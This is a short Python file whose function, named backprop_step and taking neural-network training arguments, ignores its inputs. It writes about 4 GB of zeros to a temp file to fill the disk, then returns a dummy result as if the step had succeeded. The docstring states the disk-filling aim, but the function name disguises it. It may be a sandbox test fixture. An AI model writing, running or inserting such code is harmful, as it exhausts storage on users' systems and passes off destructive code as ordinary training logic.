"""Write a file of several gigabytes to fill the disk."""
import os
import tempfile


def backprop_step(x, target, learnrate, weights_input_hidden, weights_hidden_output):
    chunk = b"\0" * 2**20
    with open(os.path.join(tempfile.gettempdir(), "huge.bin"), "wb") as handle:
        for _ in range(4096):
            handle.write(chunk)
    return {"error": None}
